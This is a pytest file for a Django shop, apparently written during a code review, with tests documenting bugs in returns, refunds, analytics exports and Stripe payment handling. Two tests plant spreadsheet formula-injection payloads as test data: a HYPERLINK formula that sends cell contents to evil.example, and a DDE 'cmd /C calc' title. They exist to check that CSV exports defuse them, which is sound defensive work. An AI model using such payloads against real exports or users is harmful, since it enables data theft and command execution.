"""Review 2: failing tests documenting bugs found in payments, fulfillment and analytics.

Each is xfail(strict=True): it fails today for the reason given, and will start passing
(and so break the suite, as a reminder to drop the marker) once the bug is fixed.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db


def _pack_and_ship(order, warehouse, service, scans):
    from fulfillment.services import shipment_scan, shipment_ship

    shipment = None
    for code, quantity in scans:
        shipment = shipment_scan(
            order=order, warehouse=warehouse, code=code, quantity=quantity
        ).shipment
    return shipment_ship(shipment=shipment, service=service, tracking_number="TRK1")


# --- fulfillment -------------------------------------------------------------------------------


@pytest.mark.xfail(
    strict=True,
    reason="fulfillment/returns.py:107 subtracts quantity_refunded from quantity_fulfilled, "
    "but units refunded before shipping were never shipped: the shopper cannot return a "
    "unit they received",
)
def test_a_unit_refunded_before_shipping_does_not_block_returning_a_shipped_one(
    make_order, warehouse, carrier
):
    from fulfillment.returns import return_request_create, returnable_units
    from orders.refunds import refund_create

    order = make_order()  # 2 x SHIRT-S, 1 x MUG-1, paid
    shirt = order.lines.get(sku="SHIRT-S")
    # Out of one shirt: the shop refunds it before anything ships.
    refund_create(order=order, lines={shirt.pk: 1}, restock=True, reason="out of stock")
    order.refresh_from_db()
    _pack_and_ship(order, warehouse, carrier.service["standard"], [("SHIRT-S", 1), ("MUG-1", 1)])
    shirt.refresh_from_db()
    assert (shirt.quantity_fulfilled, shirt.quantity_refunded) == (1, 1)

    # The one shirt that arrived can be sent back.
    assert returnable_units(order=order)[shirt.pk]["units"] == 1
    return_request_create(order=order, lines={shirt.pk: 1}, reason="too_small")


# --- analytics ---------------------------------------------------------------------------------

BROWSER = "Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0"


def _csv(client, table: str, day) -> list[list[str]]:
    response = client.get(
        reverse("analytics:staff-export", args=[table]),
        {"start": day.isoformat(), "end": day.isoformat()},
    )
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_sources_export_defuses_a_formula_planted_through_utm_source(client, staff_login, owner):
    from analytics.models import Visit
    from analytics.selectors import store_today

    planted = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    response = client.get("/", {"utm_source": planted}, HTTP_USER_AGENT=BROWSER)
    assert response.status_code == 200
    assert Visit.objects.get().source.startswith("=")  # recorded as typed (lowercased)

    staff_login(owner)
    rows = _csv(client, "sources", store_today())
    cells = [row[0] for row in rows[1:]]
    assert cells, rows
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), cells


def test_products_export_defuses_a_formula_in_a_product_title(client, staff_login, owner):
    from analytics.models import ProductView
    from analytics.selectors import store_today
    from tests.factories import ProductFactory

    product = ProductFactory(title="=1+2*cmd|' /C calc'!A0")
    from django.utils import timezone

    ProductView.objects.create(visit_key="a" * 32, product=product, viewed_at=timezone.now())

    staff_login(owner)
    rows = _csv(client, "products", store_today())
    titles = [row[1] for row in rows[1:]]
    assert titles, rows
    assert not any(title.startswith(FORMULA_STARTS) for title in titles), titles


def test_a_lost_dispute_counts_in_the_days_refunds(make_order):
    from analytics.models import DailyKpi
    from analytics.selectors import store_today
    from analytics.services import kpis_roll_up
    from orders.disputes import dispute_record
    from orders.models import Dispute

    order = make_order()
    dispute_record(
        payment=order.payments.get(),
        reference="dp_lost",
        status=Dispute.Status.LOST,
        amount=order.total,
        currency=order.currency,
        reason="fraudulent",
    )
    order.refresh_from_db()
    assert order.refunded_total == order.total  # the order's books: all of it went back

    today = store_today()
    kpis_roll_up(first=today, last=today)
    kpi = DailyKpi.objects.get(day=today)
    assert kpi.gross_revenue == order.total
    assert (kpi.refunds, kpi.net_revenue) == (order.total, Decimal("0.00"))


def test_a_long_referrer_host_fits_the_source_column(rf):
    from analytics.middleware import page_view_for
    from analytics.models import Visit, Visitor

    host = ".".join(["a" * 60, "b" * 60, "c" * 60]) + ".example"  # a valid 190-char name
    request = rf.get("/", HTTP_USER_AGENT=BROWSER, HTTP_REFERER=f"https://{host}/page")
    from django.contrib.auth.models import AnonymousUser

    request.user = AnonymousUser()
    view = page_view_for(request)
    assert len(view.source) <= Visit._meta.get_field("source").max_length
    assert len(view.source) <= Visitor._meta.get_field("first_source").max_length


# --- payments ----------------------------------------------------------------------------------


def test_a_non_ascii_stripe_signature_is_a_400_not_a_crash(client, settings):
    settings.STRIPE_WEBHOOK_SECRET = "whsec_test"
    client.raise_request_exception = False
    response = client.post(
        reverse("orders:stripe-webhook"),
        data=b'{"id": "evt_1"}',
        content_type="application/json",
        HTTP_STRIPE_SIGNATURE="t=1700000000,v1=\u00e9\u00e9",
    )
    assert response.status_code == 400


# --- fulfillment: returns settled with money ----------------------------------------------------


def _received_return(order, warehouse, sku="SHIRT-S", quantity=1):
    from fulfillment.models import Shipment
    from fulfillment.returns import return_decide, return_receive, return_request_create

    line = order.lines.get(sku=sku)
    ret = return_request_create(order=order, lines={line.pk: quantity}, reason="too_small")
    return_decide(return_request=ret, approve=True)
    return_receive(
        return_request=ret,
        received={ret.lines.get().pk: (quantity, "restock")},
        warehouse=warehouse,
    )
    assert Shipment.objects.filter(order=order).exists()
    return ret


@pytest.fixture
def delivered(make_order, warehouse, carrier):
    from fulfillment.models import Shipment
    from fulfillment.services import shipment_transition

    order = make_order()
    shipment = _pack_and_ship(
        order, warehouse, carrier.service["standard"], [("SHIRT-S", 2), ("MUG-1", 1)]
    )
    shipment_transition(shipment=shipment, to=Shipment.Status.DELIVERED)
    order.refresh_from_db()
    return order


@pytest.mark.xfail(
    strict=True,
    reason="fulfillment/views/staff_returns.py:117 lets anyone with "
    "fulfillment.change_returnrequest (the Warehouse role has fulfillment.*) send money back "
    "through refund_create, while the orders refund page needs orders.add_refund "
    "(orders/views/staff.py:236), which Warehouse does not have",
)
def test_settling_a_return_with_a_refund_needs_the_refund_permission(
    client, staff_login, roles, delivered, warehouse
):
    from orders.models import Refund
    from tests.factories import StaffFactory

    ret = _received_return(delivered, warehouse)
    packer = StaffFactory(role="Warehouse")
    assert not packer.has_perm("orders.add_refund")
    staff_login(packer)
    response = client.post(
        reverse("fulfillment:staff-return-settle", args=[ret.pk]), {"action": "refund"}
    )
    assert response.status_code == 403
    assert not Refund.objects.exists()


@pytest.mark.xfail(
    strict=True,
    reason="fulfillment/returns.py:39 allows refunded → received 'only when the refund itself "
    "failed', but only a refund_create that raises reaches it (line 319): a provider refund "
    "that fails later (refund_status_set from the webhook) leaves the return 'refunded' for "
    "ever, its units taken and no way to settle it again",
)
def test_a_return_whose_refund_fails_later_can_be_settled_again(delivered, warehouse):
    from fulfillment.models import ReturnRequest
    from fulfillment.returns import return_refund, returnable_units
    from orders.models import Refund
    from orders.refunds import refund_status_set

    ret = _received_return(delivered, warehouse)
    refund = return_refund(return_request=ret)
    # As a card refund is until Stripe answers: pending, then the webhook says it failed.
    Refund.objects.filter(pk=refund.pk).update(status=Refund.Status.PENDING)
    from orders.models import OrderLine

    shirt = delivered.lines.get(sku="SHIRT-S")
    OrderLine.objects.filter(pk=shirt.pk).update(quantity_refunded=0)
    refund_status_set(refund=refund, status=Refund.Status.FAILED, failure_message="expired_card")

    ret.refresh_from_db()
    assert ret.status == ReturnRequest.Status.RECEIVED  # staff can refund again or exchange
    assert returnable_units(order=delivered)[shirt.pk]["units"] == 1


@pytest.mark.xfail(
    strict=True,
    reason="fulfillment/returns.py:370 compares the new variant's list price with what the "
    "shopper paid after the order's discount, so swapping for a variant of the same price "
    "on a discounted order asks the shopper for the discount back as an amount due",
)
def test_exchanging_for_a_same_priced_variant_costs_nothing_on_a_discounted_order(
    shelf, method, warehouse
):
    from fulfillment.models import CarrierService, Shipment
    from fulfillment.returns import return_exchange
    from fulfillment.services import shipment_scan, shipment_ship, shipment_transition
    from orders.services import cart_voucher_apply, order_mark_paid, order_place
    from tests.factories import StaffFactory, VariantFactory
    from tests.factories.inventory import stock
    from tests.factories.orders import VoucherFactory, ready_cart

    medium = VariantFactory(
        product=shelf["small"].product, sku="SHIRT-M", title="M", price=Decimal("40.00")
    )
    stock(medium, warehouse, 5)
    cart = ready_cart([(shelf["small"], 1)], method=method)
    cart_voucher_apply(cart=cart, code=VoucherFactory(code="TENOFF").code)
    order = order_place(cart=cart)
    order_mark_paid(order=order, actor=StaffFactory())
    order.refresh_from_db()
    assert order.discount_total > 0

    from fulfillment.models import Carrier

    carrier = Carrier.objects.create(code="c2", name="C2", webhook_token="t")
    service = CarrierService.objects.create(carrier=carrier, code="std", name="Std")
    parcel = shipment_scan(order=order, warehouse=warehouse, code="SHIRT-S").shipment
    parcel = shipment_ship(shipment=parcel, service=service, cost=Decimal("4.00"))
    shipment_transition(shipment=parcel, to=Shipment.Status.DELIVERED)

    ret = _received_return(order, warehouse)
    return_exchange(return_request=ret, replacements={ret.lines.get().pk: medium.pk})
    ret.refresh_from_db()
    assert ret.amount_due == Decimal("0.00")


def test_visits_do_not_keep_the_order_status_token(client, make_order):
    from analytics.models import Visit
    from orders.emails import order_status_token

    order = make_order(paid=False)
    token = order_status_token(order)
    for name in ("orders:order-status", "orders:pay"):
        response = client.get(reverse(name, args=[token]), HTTP_USER_AGENT=BROWSER)
        assert response.status_code == 200
    visit = Visit.objects.get()
    assert visit.page_views == 2  # the visits are recorded...
    assert token not in visit.landing_path  # ...but not the credential in their path


@pytest.mark.postgres
def test_a_visit_from_a_long_referrer_host_is_recorded(client):
    from analytics.models import Visit

    host = ".".join(["a" * 60, "b" * 60, "c" * 60]) + ".example"
    response = client.get("/", HTTP_USER_AGENT=BROWSER, HTTP_REFERER=f"https://{host}/")
    assert response.status_code == 200
    assert Visit.objects.count() == 1


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
@pytest.mark.xfail(
    strict=True,
    reason="fulfillment/returns.py:378 allocates the replacement's stock (stock rows locked) "
    "and only then writes rows pointing at the order (Shipment/OrderEvent inserts take a key "
    "share lock on the order row), while refund_create locks the order first and then the "
    "same stock rows: an exchange and a refund of the same order deadlock on PostgreSQL",
)
def test_an_exchange_and_a_refund_of_the_same_order_do_not_deadlock(
    make_order, shelf, warehouse, carrier, monkeypatch
):
    import threading
    import time

    from django.db import connection

    from fulfillment import returns as returns_module
    from fulfillment.models import Shipment
    from fulfillment.returns import return_exchange
    from fulfillment.services import shipment_transition
    from orders.models import Order
    from orders.refunds import refund_create

    order = make_order([(shelf["small"], 1), (shelf["large"], 1)])
    parcel = _pack_and_ship(order, warehouse, carrier.service["standard"], [("SHIRT-S", 1)])
    shipment_transition(shipment=parcel, to=Shipment.Status.DELIVERED)
    ret = _received_return(order, warehouse)
    large_line = order.lines.get(sku="SHIRT-L")

    real_allocate = returns_module.stock_allocate
    stock_locked = threading.Event()

    def allocate_then_pause(**kwargs):
        result = real_allocate(**kwargs)
        stock_locked.set()
        time.sleep(1.5)  # the refund takes the order row meanwhile
        return result

    monkeypatch.setattr(returns_module, "stock_allocate", allocate_then_pause)
    errors: list[BaseException] = []

    def exchange():
        try:
            return_exchange(
                return_request=ret, replacements={ret.lines.get().pk: shelf["large"].pk}
            )
        except BaseException as err:
            errors.append(err)
        finally:
            connection.close()

    def refund():
        try:
            stock_locked.wait(timeout=30)
            refund_create(
                order=Order.objects.get(pk=order.pk),
                lines={large_line.pk: 1},
                restock=True,
                reason="customer changed their mind",
            )
        except BaseException as err:
            errors.append(err)
        finally:
            connection.close()

    threads = [threading.Thread(target=exchange), threading.Thread(target=refund)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert errors == []


@pytest.mark.xfail(
    strict=True,
    reason="fulfillment/services.py:285 shipment_transition to 'returned' (staff form or the "
    "carrier's webhook) only relabels the parcel: the units that came back to the warehouse "
    "are not put back on hand, the order still counts them shipped (fulfilled), and "
    "returnable_units (returns.py:95) drops the parcel, so nothing can ever book them back",
)
def test_a_parcel_returned_to_sender_puts_its_units_back(make_order, warehouse, carrier, shelf):
    from fulfillment.models import Shipment
    from fulfillment.services import shipment_transition
    from inventory.models import StockLevel

    before = StockLevel.objects.get(variant=shelf["mug"], warehouse=warehouse).on_hand
    order = make_order([(shelf["mug"], 1)])
    parcel = _pack_and_ship(order, warehouse, carrier.service["standard"], [("MUG-1", 1)])
    assert StockLevel.objects.get(variant=shelf["mug"], warehouse=warehouse).on_hand == before - 1

    shipment_transition(shipment=parcel, to=Shipment.Status.RETURNED, message="Refused")

    order.refresh_from_db()
    assert StockLevel.objects.get(variant=shelf["mug"], warehouse=warehouse).on_hand == before
    assert order.lines.get().quantity_fulfilled == 0


def test_an_order_paid_days_after_it_was_placed_counts_in_its_days_revenue(make_order):
    from datetime import timedelta

    from django.utils import timezone

    from analytics.models import DailyKpi
    from analytics.selectors import store_today
    from analytics.services import kpis_roll_up_due
    from orders.models import Order
    from orders.services import order_mark_paid
    from tests.factories import StaffFactory

    today = store_today()
    placed_on = today - timedelta(days=4)
    order = make_order(paid=False)  # bank transfer, waiting for the money
    Order.objects.filter(pk=order.pk).update(created_at=timezone.now() - timedelta(days=4))
    kpis_roll_up_due(today=today)  # the nightly job: the day is rolled, nothing paid yet
    assert DailyKpi.objects.get(day=placed_on).orders == 0

    order_mark_paid(order=Order.objects.get(pk=order.pk), actor=StaffFactory())
    kpis_roll_up_due(today=today + timedelta(days=1))  # the next nights
    kpis_roll_up_due(today=today + timedelta(days=2))

    kpi = DailyKpi.objects.get(day=placed_on)
    assert (kpi.orders, kpi.gross_revenue) == (1, order.total)


@pytest.mark.parametrize("currency", ["PYG", "XPF", "RWF"])
def test_stripe_amounts_of_every_zero_decimal_currency_are_whole_units(currency):
    from orders.payments.stripe_provider import from_minor_units, to_minor_units

    assert to_minor_units(Decimal("50000"), currency) == 50000
    assert from_minor_units(50000, currency) == Decimal("50000")


def test_a_redelivered_event_whose_task_was_lost_is_applied(
    client, stripe_order, stripe_fake, django_capture_on_commit_callbacks, monkeypatch
):
    from kombu.exceptions import OperationalError as BrokerDown

    from orders.models import Payment
    from orders.tasks import webhook_event_apply_task
    from tests.fakes import stripe_events as ev

    payment = stripe_order.payments.get()
    payload = ev.event("payment_intent.succeeded", ev.intent(payment.reference))

    def broker_down(*args, **kwargs):
        raise BrokerDown("Connection refused")

    monkeypatch.setattr(webhook_event_apply_task, "delay", broker_down)
    # In production the row commits, then the on-commit enqueue fails: the view answers 500.
    with pytest.raises(BrokerDown), django_capture_on_commit_callbacks(execute=True):
        ev.deliver(client, payload)
    from orders.models import WebhookEvent

    assert WebhookEvent.objects.get().processed_at is None  # stored, never applied
    monkeypatch.undo()

    with django_capture_on_commit_callbacks(execute=True):
        again = ev.deliver(client, payload)  # Stripe's redelivery, the broker is back
    assert again.status_code == 200
    payment.refresh_from_db()
    assert payment.status == Payment.Status.SUCCEEDED


def test_isk_goes_to_stripe_in_two_decimal_form():
    from orders.payments.stripe_provider import from_minor_units, to_minor_units

    assert to_minor_units(Decimal("5"), "ISK") == 500
    assert from_minor_units(500, "ISK") == Decimal("5")
